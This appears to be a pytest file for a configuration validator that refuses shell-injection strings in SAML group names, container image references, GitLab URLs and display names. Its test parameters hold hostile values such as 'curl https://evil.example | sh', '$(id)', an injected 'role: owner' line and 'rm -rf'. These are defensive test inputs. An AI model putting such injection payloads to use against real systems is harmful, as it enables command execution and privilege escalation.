"""Strings that reach a shell, a CI file, GitLab or an image reference are validated against
what their target accepts, with a plain-words message."""

from __future__ import annotations

import pytest

from tests.core.orgs import CONTROL_PLANE, PLATFORM, WORKLOAD
from tests.guardrails.helpers import problem_at, validate, write_tree


@pytest.mark.parametrize("name", ['admins\\"; curl evil | sh', "admins\\nrole: owner", " admins",
                                  "admins$(id)", "a`id`"])
def test_saml_group_names_with_quotes_newlines_or_shell_characters_are_refused(tmp_path, name):
    text = PLATFORM.replace("{group: retail-leads@acme.com, role: maintainer}",
                            f'{{group: retail-leads@acme.com, role: maintainer, samlGroupName: "{name}"}}')
    code, lines = validate(write_tree(tmp_path, None, **{"platform.yaml": text}))
    assert code == 1
    message = problem_at(lines, "platform.yaml", "spec.groups[0].samlGroupName")
    assert "must be a SAML group name" in message


def test_ordinary_saml_group_names_are_accepted(tmp_path):
    text = PLATFORM.replace("{group: retail-leads@acme.com, role: maintainer}",
                            '{group: retail-leads@acme.com, role: maintainer, samlGroupName: "CN=Retail Leads,OU=Groups"}')
    code, lines = validate(write_tree(tmp_path, None, **{"platform.yaml": text}))
    assert code == 0, lines


@pytest.mark.parametrize("image", ["alpine; curl https://evil.example | sh", "alpine:latest && id",
                                   "$(id)/x", "registry.example.com/a b"])
def test_the_cli_image_must_be_an_image_reference(tmp_path, image):
    plane = CONTROL_PLANE.replace("parentGroup: acme}", f"parentGroup: acme, cliImage: \"{image}\"}}")
    code, lines = validate(write_tree(tmp_path, None, **{"control-plane.yaml": plane}))
    assert code == 1
    message = problem_at(lines, "control-plane.yaml", "spec.gitlab.cliImage")
    assert "must be a container image reference" in message and "pattern" not in message


def test_a_valid_cli_image_is_accepted(tmp_path):
    plane = CONTROL_PLANE.replace(
        "parentGroup: acme}", "parentGroup: acme, cliImage: registry.gitlab.com/acme/konfig-cli:1.4}")
    code, lines = validate(write_tree(tmp_path, None, **{"control-plane.yaml": plane}))
    assert code == 0, lines


def test_workload_images_are_image_references(tmp_path):
    workload = WORKLOAD.replace("image: us-docker.pkg.dev", "image: us-docker.pkg.dev/x;id #")
    code, lines = validate(write_tree(tmp_path, None, **{"workload.yaml": workload}))
    assert code == 1
    assert "must be a container image reference" in problem_at(lines, "workload.yaml", "spec.image")


@pytest.mark.parametrize("url", ['https://gitlab.example.com/"$(id)"', "https://gitlab.example.com/`id`"])
def test_the_gitlab_url_has_no_quotes_or_shell_characters(tmp_path, url):
    plane = CONTROL_PLANE.replace("url: https://gitlab.example.com", f"url: '{url}'")
    code, lines = validate(write_tree(tmp_path, None, **{"control-plane.yaml": plane}))
    assert code == 1
    problem_at(lines, "control-plane.yaml", "spec.gitlab.url")


def test_display_names_must_be_valid_gitlab_group_names(tmp_path):
    text = PLATFORM.replace("spec:\n", 'spec:\n  displayName: "Retail\\"; rm -rf"\n')
    code, lines = validate(write_tree(tmp_path, None, **{"platform.yaml": text}))
    assert code == 1
    assert "must be a name GitLab accepts" in problem_at(lines, "platform.yaml", "spec.displayName")
